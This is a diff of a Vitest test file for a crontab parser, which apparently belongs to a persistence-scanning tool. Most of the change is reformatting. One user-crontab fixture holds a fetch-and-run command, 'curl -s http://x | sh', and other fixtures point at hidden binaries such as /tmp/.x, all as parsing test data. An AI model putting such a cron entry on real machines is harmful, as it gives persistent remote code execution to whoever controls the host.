@@ -1,20 +1,51 @@
 import { describe, expect, it } from 'vitest';
 import { cronSkipsName, parseCrontab, parseScriptLines } from './parse-crontab.ts';
 
-const sys = (text: string) => parseCrontab(text, '/etc/crontab', { system: true }).map((e) => [e.schedule, e.user, e.command, e.where.line]);
+const sys = (text: string) =>
+  parseCrontab(text, '/etc/crontab', { system: true }).map((e) => [
+    e.schedule,
+    e.user,
+    e.command,
+    e.where.line,
+  ]);
 const usr = (text: string) =>
-  parseCrontab(text, '/var/spool/cron/crontabs/bob', { system: false, user: 'bob' }).map((e) => [e.schedule, e.user, e.command, e.where.line]);
+  parseCrontab(text, '/var/spool/cron/crontabs/bob', { system: false, user: 'bob' }).map((e) => [
+    e.schedule,
+    e.user,
+    e.command,
+    e.where.line,
+  ]);
 
 describe('parseCrontab (system)', () => {
   it.each([
-    ['five fields, user, command', '17 * * * * root cd / && run-parts --report /etc/cron.hourly', [['17 * * * *', 'root', 'cd / && run-parts --report /etc/cron.hourly', 1]]],
-    ['tabs between fields, inner blanks kept', '25 6\t* * *\troot\ttest -x /x ||  ( a )', [['25 6 * * *', 'root', 'test -x /x ||  ( a )', 1]]],
+    [
+      'five fields, user, command',
+      '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
+      [['17 * * * *', 'root', 'cd / && run-parts --report /etc/cron.hourly', 1]],
+    ],
+    [
+      'tabs between fields, inner blanks kept',
+      '25 6\t* * *\troot\ttest -x /x ||  ( a )',
+      [['25 6 * * *', 'root', 'test -x /x ||  ( a )', 1]],
+    ],
     ['@reboot with user', '@reboot www-data /opt/app/start', [['@reboot', 'www-data', '/opt/app/start', 1]]],
     ['@daily case-insensitive keyword', '@DAILY root /bin/x', [['@DAILY', 'root', '/bin/x', 1]]],
     ['unknown @keyword rejected', '@sometimes root /bin/x', []],
-    ['env lines skipped', 'SHELL=/bin/sh\nPATH=/usr/bin:/bin\nMAILTO=""\nMAILTO = ops\n0 1 * * * root /bin/a', [['0 1 * * *', 'root', '/bin/a', 5]]],
-    ['comments and blanks skipped', '# m h dom mon dow user command\n\n   # indented\n*/5 * * * * root /bin/b', [['*/5 * * * *', 'root', '/bin/b', 4]]],
-    ['names, ranges, lists', '0 0-6/2 1,15 jan-jun mon-fri nobody /bin/c', [['0 0-6/2 1,15 jan-jun mon-fri', 'nobody', '/bin/c', 1]]],
+    [
+      'env lines skipped',
+      'SHELL=/bin/sh\nPATH=/usr/bin:/bin\nMAILTO=""\nMAILTO = ops\n0 1 * * * root /bin/a',
+      [['0 1 * * *', 'root', '/bin/a', 5]],
+    ],
+    [
+      'comments and blanks skipped',
+      '# m h dom mon dow user command\n\n   # indented\n*/5 * * * * root /bin/b',
+      [['*/5 * * * *', 'root', '/bin/b', 4]],
+    ],
+    [
+      'names, ranges, lists',
+      '0 0-6/2 1,15 jan-jun mon-fri nobody /bin/c',
+      [['0 0-6/2 1,15 jan-jun mon-fri', 'nobody', '/bin/c', 1]],
+    ],
     ['cronie no-log dash', '-*/1 * * * * root /tmp/.x', [['*/1 * * * *', 'root', '/tmp/.x', 1]]],
     ['too few fields skipped', '* * * * root\n* * *', []],
     ['bad time field skipped', '* * * * ? root a\n"x" * * * * root b', [['* * * * ?', 'root', 'a', 1]]],
@@ -27,7 +58,11 @@ describe('parseCrontab (system)', () => {
 
 describe('parseCrontab (user)', () => {
   it.each([
-    ['five fields and command, user from file name', '*/10 * * * * curl -s http://x | sh', [['*/10 * * * *', 'bob', 'curl -s http://x | sh', 1]]],
+    [
+      'five fields and command, user from file name',
+      '*/10 * * * * curl -s http://x | sh',
+      [['*/10 * * * *', 'bob', 'curl -s http://x | sh', 1]],
+    ],
     ['@reboot', '@reboot /home/bob/.x/run', [['@reboot', 'bob', '/home/bob/.x/run', 1]]],
     [
       'Debian header comments skipped',
